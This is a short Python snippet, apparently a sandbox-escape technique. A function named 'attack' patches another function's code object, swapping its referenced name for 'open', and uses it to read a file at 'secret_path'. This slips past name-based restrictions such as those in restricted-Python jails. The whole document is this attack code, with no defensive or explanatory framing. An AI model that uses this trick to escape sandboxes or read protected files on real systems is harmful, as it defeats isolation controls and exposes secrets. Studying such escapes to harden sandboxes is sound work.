# Replaces its own code by code that names what it wants.
def _plain(name):
    return plain(name)


def attack(secret_path):
    code = _plain.__code__
    _plain.__code__ = code.replace(co_names=("open",))
    return _plain(secret_path).read()
